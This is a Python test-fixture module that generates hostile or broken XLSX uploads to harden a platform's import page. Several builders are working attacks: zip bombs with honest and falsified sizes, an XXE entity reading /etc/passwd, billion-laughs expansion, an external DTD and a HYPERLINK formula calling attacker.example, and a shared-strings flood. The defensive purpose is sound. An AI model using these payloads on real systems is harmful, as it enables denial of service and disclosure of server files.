"""A corpus of hostile or broken XLSX uploads, each built from the platform's own export of a reply.

Every builder takes the exported workbook (bytes) and returns the bytes a careless or hostile sender would
upload. Nothing here is a test; ``test_hostile_imports.py`` drives the corpus through the upload page.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from openpyxl import load_workbook

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _edit(exported: bytes, change: Callable) -> bytes:
    workbook = load_workbook(io.BytesIO(exported))
    sheet = workbook.worksheets[0]
    sheet.protection.sheet = False
    headers = {cell.value: cell.column for cell in sheet[1]}
    change(workbook, sheet, headers)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _column(headers: dict, needle: str) -> int:
    """The column whose header contains ``needle`` (headers are translated, keys are not)."""
    for header, column in headers.items():
        if header and needle.casefold() in str(header).casefold():
            return column
    raise KeyError(needle)


def wrong_headers(exported: bytes) -> bytes:
    def change(workbook, sheet, headers):
        for cell in sheet[1]:
            cell.value = f"Column {cell.column}"

    return _edit(exported, change)


def missing_required_column(exported: bytes) -> bytes:
    def change(workbook, sheet, headers):
        sheet.delete_cols(_column(headers, "version"))

    return _edit(exported, change)


def bad_types(exported: bytes) -> bytes:
    """An option that does not exist and a version that is not a number."""

    def change(workbook, sheet, headers):
        value, version, key = _column(headers, "value"), _column(headers, "version"), _column(headers, "field")
        for row in range(2, sheet.max_row + 1):
            if sheet.cell(row=row, column=key).value == "position":
                sheet.cell(row=row, column=value).value = "perhaps"
                break
        sheet.cell(row=3, column=version).value = "version two"

    return _edit(exported, change)


def unknown_item_codes(exported: bytes) -> bytes:
    def change(workbook, sheet, headers):
        code = _column(headers, "item")
        for row in range(2, sheet.max_row + 1):
            sheet.cell(row=row, column=code).value = f"NOPE-{row:02d}"

    return _edit(exported, change)


def duplicate_rows(exported: bytes) -> bytes:
    def change(workbook, sheet, headers):
        sheet.append([cell.value for cell in sheet[2]])

    return _edit(exported, change)


def extra_sheets(exported: bytes) -> bytes:
    def change(workbook, sheet, headers):
        workbook.create_sheet("Notes from the ministry").append(["Check with the Ministry of Justice"])

    return _edit(exported, change)


def empty_file(exported: bytes) -> bytes:
    return b""


def empty_workbook(exported: bytes) -> bytes:
    def change(workbook, sheet, headers):
        sheet.delete_rows(1, sheet.max_row)

    return _edit(exported, change)


def ten_thousand_rows(exported: bytes) -> bytes:
    def change(workbook, sheet, headers):
        template = [cell.value for cell in sheet[2]]
        for _ in range(10_000):
            sheet.append(template)

    return _edit(exported, change)


def not_xlsx(exported: bytes) -> bytes:
    """A CSV export renamed ``.xlsx``."""
    return b"item_code,field_key,value,answer_version\nGENAI-01,position,yes,0\n" * 20


def pdf_renamed(exported: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def password_protected(exported: bytes) -> bytes:
    """Excel saves a password-protected workbook as an OLE compound file (EncryptedPackage) whatever its name."""
    header = OLE_MAGIC + b"\x00" * 16 + struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9) + b"\x00" * 478
    return header + b"EncryptionInfo EncryptedPackage" + bytes(range(256)) * 8


def zip_encrypted(exported: bytes) -> bytes:
    """The same workbook with the ZIP "encrypted" flag set on every entry (ZipCrypto)."""
    data = bytearray(exported)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            flags = struct.unpack_from("<H", data, start + offset)[0]
            struct.pack_into("<H", data, start + offset, flags | 0x1)
            start += 4
    return bytes(data)


def formula_cells(exported: bytes) -> bytes:
    def change(workbook, sheet, headers):
        value = _column(headers, "value")
        formulas = ['=HYPERLINK("http://attacker.example/?"&A1,"x")', "=1+1", "+SUM(1,1)", "-2+3", "@SUM(1,1)"]
        for row, formula in zip(range(2, sheet.max_row + 1), formulas, strict=False):
            sheet.cell(row=row, column=value).value = formula

    return _edit(exported, change)


def _replace_part(exported: bytes, name: str, content: bytes) -> bytes:
    """The workbook with the part ``name`` replaced (or added) by ``content``."""
    source = zipfile.ZipFile(io.BytesIO(exported))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            if entry.filename != name:
                target.writestr(entry.filename, source.read(entry.filename))
        target.writestr(name, content)
    return buffer.getvalue()


def _sheet_name(exported: bytes) -> str:
    names = zipfile.ZipFile(io.BytesIO(exported)).namelist()
    return sorted(n for n in names if n.startswith("xl/worksheets/sheet"))[0]


def zip_bomb(exported: bytes) -> bytes:
    """The answer sheet padded with 1 GiB of blanks inside the XML: about 1 MB compressed."""
    sheet = _sheet_name(exported)
    original = zipfile.ZipFile(io.BytesIO(exported)).read(sheet)
    head, _, tail = original.partition(b"<sheetData>")
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    size, crc, chunks = 0, 0, []
    for part in (head + b"<sheetData>",):
        chunks.append(compressor.compress(part))
        crc = zlib.crc32(part, crc)
        size += len(part)
    block = b" " * (1 << 20)
    for _ in range(1024):
        chunks.append(compressor.compress(block))
        crc = zlib.crc32(block, crc)
        size += len(block)
    for part in (tail,):
        chunks.append(compressor.compress(part))
        crc = zlib.crc32(part, crc)
        size += len(part)
    chunks.append(compressor.flush())
    return _raw_zip(exported, sheet, b"".join(chunks), crc=crc, size=size, declared=size)


def zip_bomb_lying(exported: bytes) -> bytes:
    """The same bomb, but its headers declare 40 KB: only the inflater's limit can stop it."""
    bomb = zip_bomb(exported)
    sheet = _sheet_name(exported)
    archive = zipfile.ZipFile(io.BytesIO(bomb))
    entry = archive.getinfo(sheet)
    data = bytearray(bomb)
    declared = 40_000
    struct.pack_into("<I", data, entry.header_offset + 22, declared)
    start = data.find(b"PK\x01\x02")
    while start != -1:
        name_length = struct.unpack_from("<H", data, start + 28)[0]
        if data[start + 46 : start + 46 + name_length] == sheet.encode():
            struct.pack_into("<I", data, start + 24, declared)
        start = data.find(b"PK\x01\x02", start + 4)
    return bytes(data)


def _raw_zip(exported: bytes, name: str, deflated: bytes, *, crc: int, size: int, declared: int) -> bytes:
    """Rebuild the workbook with ``name`` replaced by an already-deflated stream."""
    source = zipfile.ZipFile(io.BytesIO(exported))
    out = io.BytesIO()
    central = []
    for entry in source.infolist():
        filename = entry.filename.encode()
        if entry.filename == name:
            body, entry_crc, raw_size = deflated, crc, declared
        else:
            raw = source.read(entry.filename)
            compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
            body = compressor.compress(raw) + compressor.flush()
            entry_crc, raw_size = zlib.crc32(raw), len(raw)
        offset = out.tell()
        out.write(
            struct.pack(
                "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, entry_crc, len(body), raw_size, len(filename), 0
            )
        )
        out.write(filename)
        out.write(body)
        central.append(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0x21,
                entry_crc,
                len(body),
                raw_size,
                len(filename),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + filename
        )
    start = out.tell()
    for record in central:
        out.write(record)
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


XXE = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>
"""


def xxe(exported: bytes) -> bytes:
    return _replace_part(exported, "xl/sharedStrings.xml", XXE)


def billion_laughs(exported: bytes) -> bytes:
    sheet = _sheet_name(exported)
    original = zipfile.ZipFile(io.BytesIO(exported)).read(sheet)
    declaration, _, rest = original.partition(b"?>")
    doctype = BILLION_LAUGHS.split(b"<sst")[0].split(b"?>", 1)[1]
    return _replace_part(exported, sheet, declaration + b"?>" + doctype + rest)


def xxe_in_relationships(exported: bytes) -> bytes:
    rels = b"""<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>"""
    return _replace_part(exported, "_rels/.rels", rels)


def shared_strings(exported: bytes, count: int) -> bytes:
    """The export with ``count`` empty shared strings: 2.9 million of them fit in about 131 KB compressed, and held
    a worker until it was killed while openpyxl loaded them all before reading a row."""
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">'
        % (count, count)
    )
    with_part = _replace_part(exported, "xl/sharedStrings.xml", head + b"<si><t/></si>" * count + b"</sst>")
    types = zipfile.ZipFile(io.BytesIO(with_part)).read("[Content_Types].xml")
    if b"/xl/sharedStrings.xml" not in types:  # declared, as Excel does, so that readers load it
        types = types.replace(
            b"</Types>",
            b'<Override PartName="/xl/sharedStrings.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )
    return _replace_part(with_part, "[Content_Types].xml", types)


CORPUS: dict[str, Callable[[bytes], bytes]] = {
    "wrong headers": wrong_headers,
    "missing required column": missing_required_column,
    "bad types": bad_types,
    "unknown item codes": unknown_item_codes,
    "duplicate rows": duplicate_rows,
    "extra sheets": extra_sheets,
    "empty file": empty_file,
    "empty workbook": empty_workbook,
    "10,000-row file": ten_thousand_rows,
    "CSV renamed .xlsx": not_xlsx,
    "PDF renamed .xlsx": pdf_renamed,
    "password-protected (OLE)": password_protected,
    "ZIP-encrypted entries": zip_encrypted,
    "formula cells": formula_cells,
    "zip bomb (1 GiB declared)": zip_bomb,
    "zip bomb (lying sizes)": zip_bomb_lying,
    "XXE (external entity)": xxe,
    "billion laughs": billion_laughs,
    "external DTD in a .rels part": xxe_in_relationships,
}
